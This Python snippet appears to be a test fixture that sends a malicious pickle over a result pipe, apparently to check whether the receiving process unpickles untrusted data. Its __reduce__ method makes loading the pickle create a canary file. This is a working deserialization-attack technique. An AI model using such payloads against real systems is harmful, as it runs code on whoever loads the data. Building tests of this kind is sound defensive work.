"""Answer with a pickle that runs code in whoever loads it."""

import pickle


class Trap:
    def __reduce__(self):
        return (open, (P["shared"] + "/kg-" + P["nonce"], "w"))


data = pickle.dumps(Trap(), protocol=0)
os.write(P["result_fd"], len(data).to_bytes(4, "big") + data)
time.sleep(0.2)
os._exit(0)
